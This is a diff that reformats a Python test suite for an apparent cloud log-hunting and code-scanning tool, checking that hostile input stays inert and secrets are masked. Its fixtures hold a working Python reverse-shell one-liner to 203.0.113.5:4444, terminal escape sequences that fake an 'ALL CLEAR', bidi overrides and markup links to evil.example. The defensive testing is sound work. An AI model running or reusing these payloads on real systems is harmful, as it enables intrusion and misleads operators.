@@ -46,11 +46,22 @@ def _logs(tmp_path: Path) -> Path:
     who = user("attacker")
     who["arn"] = EVIL_ARN
     records = [
-        create_fn(1, "payments-api", "2025-03-14T09:00:00Z", who=who, ua=EVIL_UA,
-                  ip=f"203.0.113.9 {CR_OVERWRITE}",
-                  role=f"arn:aws:iam::111122223333:role/{MARKUP}"),
-        update_code(2, "payments-api", "2025-03-14T09:10:00Z", s3Key=EVIL_KEY,
-                    s3Bucket=f"https://ci:{URL_PASSWORD}@artifacts.example/{BIDI}"),
+        create_fn(
+            1,
+            "payments-api",
+            "2025-03-14T09:00:00Z",
+            who=who,
+            ua=EVIL_UA,
+            ip=f"203.0.113.9 {CR_OVERWRITE}",
+            role=f"arn:aws:iam::111122223333:role/{MARKUP}",
+        ),
+        update_code(
+            2,
+            "payments-api",
+            "2025-03-14T09:10:00Z",
+            s3Key=EVIL_KEY,
+            s3Bucket=f"https://ci:{URL_PASSWORD}@artifacts.example/{BIDI}",
+        ),
     ]
     logs = tmp_path / "logs"
     write(logs / "trail.json", delivery_bytes(records))
@@ -70,7 +81,9 @@ def test_hunt_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
     if fmt == "table":
         assert_inert(out)
         assert "lambdawatch: 1 alert(s)" in out
-        assert "[/]" in out and "[link=https://evil.example]login[/link]" in out  # shown, not parsed
+        assert (
+            "[/]" in out and "[link=https://evil.example]login[/link]" in out
+        )  # shown, not parsed
         assert "\\x1b]0;owned\\x07" in out and "\\u202e" in out
         return
     items = json.loads(out) if fmt == "json" else [json.loads(line) for line in out.splitlines()]
@@ -89,8 +102,17 @@ def test_hunt_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
 
 def test_summary_json_keeps_names_exact_but_masks_secrets(tmp_path, lw) -> None:
     summary = tmp_path / "summary.json"
-    code, _, _ = lw("hunt", str(_logs(tmp_path)), "--workers", "1", "--format", "jsonl", "-q",
-                    "--summary-json", str(summary))
+    code, _, _ = lw(
+        "hunt",
+        str(_logs(tmp_path)),
+        "--workers",
+        "1",
+        "--format",
+        "jsonl",
+        "-q",
+        "--summary-json",
+        str(summary),
+    )
     assert code == 0
     doc = json.loads(summary.read_text())
     [skipped] = doc["files_skipped"]
@@ -106,8 +128,9 @@ def test_hunt_fail_on_still_exits_1_with_hostile_data(tmp_path, lw) -> None:
 
 def test_explain_is_inert_masked_and_json_exact(tmp_path, lw) -> None:
     db = tmp_path / "state.db"
-    code, out, _ = lw("hunt", str(_logs(tmp_path)), "--workers", "1", "--format", "jsonl",
-                      "--state", str(db))
+    code, out, _ = lw(
+        "hunt", str(_logs(tmp_path)), "--workers", "1", "--format", "jsonl", "--state", str(db)
+    )
     assert code == 0
     alert_id = json.loads(out)["id"]
     code, out, err = lw("explain", alert_id, "--state", str(db))
@@ -118,8 +141,9 @@ def test_explain_is_inert_masked_and_json_exact(tmp_path, lw) -> None:
     by = next(line for line in lines if line.startswith("  by "))
     assert by.startswith("  by arn:aws:iam::111122223333:user/\\x1b[2J\\x1b[H\\x1b[32mALL CLEAR")
     assert "evil-principal\\rarn:aws:iam::111122223333:role/ci" in by  # CR cannot overwrite
-    assert any("code location - s3://" in line and "****(20 chars)/\\x1b[2J" in line
-               for line in lines)
+    assert any(
+        "code location - s3://" in line and "****(20 chars)/\\x1b[2J" in line for line in lines
+    )
     code, out, _ = lw("explain", alert_id, "--state", str(db), "--json")
     assert code == 0
     stored = json.loads(out)
@@ -130,10 +154,12 @@ def test_explain_is_inert_masked_and_json_exact(tmp_path, lw) -> None:
 def _evil_zip(tmp_path: Path) -> Path:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as z:
-        z.writestr(f"{CLEAR_THEN_ALL_CLEAR}.py",
-                   "import socket,subprocess,os\n"
-                   's=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);'
-                   f'subprocess.call(["/bin/sh","-i"])  # {EVIL}\n')
+        z.writestr(
+            f"{CLEAR_THEN_ALL_CLEAR}.py",
+            "import socket,subprocess,os\n"
+            's=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);'
+            f'subprocess.call(["/bin/sh","-i"])  # {EVIL}\n',
+        )
         z.writestr("[/]x[link=https://evil.example]y.py", f'KEY = "{KEY_ID}"  # {MARKUP}\n')
         z.writestr(f"{KEY_ID}/{BIDI}.py", f'import os\nos.system("id")  # {CR_OVERWRITE}\n')
     path = tmp_path / "evil.zip"
@@ -149,7 +175,9 @@ def test_scan_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
     if fmt == "table":
         assert_inert(out)
         # the fake "ALL CLEAR" after a clear-screen only ever shows with its escapes in front
-        assert out.count("ALL CLEAR") == out.count("\\x1b[32mALL CLEAR") + out.count("red]ALL CLEAR")
+        assert out.count("ALL CLEAR") == out.count("\\x1b[32mALL CLEAR") + out.count(
+            "red]ALL CLEAR"
+        )
         assert out.count("\\x1b[32mALL CLEAR") >= 1
         assert "[/]x[link=https://evil.example]" in out
         assert "reverse-shell" in out and "\\u202e" in out
@@ -158,11 +186,13 @@ def test_scan_every_format_is_inert_and_masked(tmp_path, lw, fmt: str) -> None:
     if fmt == "json":
         files = {f["file"] for f in doc["findings"]}
         assert f"{CLEAR_THEN_ALL_CLEAR}.py" in files  # exact value
-        assert f"****(20 chars)/{BIDI}.py" in files   # secret masked, the rest exact
+        assert f"****(20 chars)/{BIDI}.py" in files  # secret masked, the rest exact
         assert "[/]x[link=https://evil.example]y.py" in files
     else:
-        uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
-                for r in doc["runs"][0]["results"]}
+        uris = {
+            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+            for r in doc["runs"][0]["results"]
+        }
         assert f"{CLEAR_THEN_ALL_CLEAR}.py" in uris
         assert doc["runs"][0]["results"][0]["ruleId"] == "CS101"
 
@@ -171,15 +201,25 @@ def _evil_rules(tmp_path: Path) -> Path:
     folder = tmp_path / "rules"
     folder.mkdir()
     rule = {
-        "id": "LW950", "slug": "evil-rule", "title": f"Evil {EVIL}",
-        "description": f"desc {CLEAR_THEN_ALL_CLEAR}", "severity": "high", "priority": "P2",
+        "id": "LW950",
+        "slug": "evil-rule",
+        "title": f"Evil {EVIL}",
+        "description": f"desc {CLEAR_THEN_ALL_CLEAR}",
+        "severity": "high",
+        "priority": "P2",
         "mitre": {"techniques": ["T1648"], "tactics": ["TA0003"]},
         "match": {"event_source": "lambda.amazonaws.com", "event_names": ["CreateFunction"]},
         "tests": [
-            {"name": f"fires {CLEAR_THEN_ALL_CLEAR} {MARKUP}", "base": "create-function",
-             "expect": "fire"},
-            {"name": f"wrongly silent {BIDI}{CR_OVERWRITE}", "base": "create-function",
-             "expect": "silent"},
+            {
+                "name": f"fires {CLEAR_THEN_ALL_CLEAR} {MARKUP}",
+                "base": "create-function",
+                "expect": "fire",
+            },
+            {
+                "name": f"wrongly silent {BIDI}{CR_OVERWRITE}",
+                "base": "create-function",
+                "expect": "silent",
+            },
         ],
     }
     (folder / "LW950-evil-rule.yml").write_text(json.dumps(rule), encoding="utf-8")
@@ -215,23 +255,42 @@ def test_config_strings_are_data_too(tmp_path, lw) -> None:
         'name = "ci\\u001b[2J"\n'
         'principal = "arn:aws:sts::111122223333:assumed-role/github-actions-deploy/*"\n'
         'reason = "approved \\u001b]0;owned\\u0007 [/] \\u202e deploy"\n'
-        'accept = ["*"]\n', encoding="utf-8")
+        'accept = ["*"]\n',
+        encoding="utf-8",
+    )
     logs = tmp_path / "logs"
-    write(logs / "trail.json", delivery_bytes([update_code(1, "orders-api", "2025-03-14T10:00:00Z")]))
+    write(
+        logs / "trail.json", delivery_bytes([update_code(1, "orders-api", "2025-03-14T10:00:00Z")])
+    )
     db = tmp_path / "state.db"
-    code, out, err = lw("hunt", str(logs), "--workers", "1", "--format", "jsonl", "--config",
-                        str(config), "--state", str(db))
+    code, out, err = lw(
+        "hunt",
+        str(logs),
+        "--workers",
+        "1",
+        "--format",
+        "jsonl",
+        "--config",
+        str(config),
+        "--state",
+        str(db),
+    )
     assert code == 0, err
     [alert] = [json.loads(line) for line in out.splitlines()]
     assert alert["suppressed"] is True
-    assert alert["suppression_reason"] == \
-        "allowlist ci\x1b[2J: approved \x1b]0;owned\x07 [/] \u202e deploy"  # exact in JSON
-    code, out, _ = lw("hunt", str(logs), "--workers", "1", "--config", str(config),
-                      "--show-suppressed")
+    assert (
+        alert["suppression_reason"]
+        == "allowlist ci\x1b[2J: approved \x1b]0;owned\x07 [/] \u202e deploy"
+    )  # exact in JSON
+    code, out, _ = lw(
+        "hunt", str(logs), "--workers", "1", "--config", str(config), "--show-suppressed"
+    )
     assert code == 0
     assert_inert(out)
     code, out, _ = lw("explain", alert["id"], "--state", str(db))
     assert code == 0
     assert_inert(out)
-    assert "  SUPPRESSED: allowlist ci\\x1b[2J: approved \\x1b]0;owned\\x07 [/] \\u202e deploy" \
+    assert (
+        "  SUPPRESSED: allowlist ci\\x1b[2J: approved \\x1b]0;owned\\x07 [/] \\u202e deploy"
         in out.splitlines()
+    )
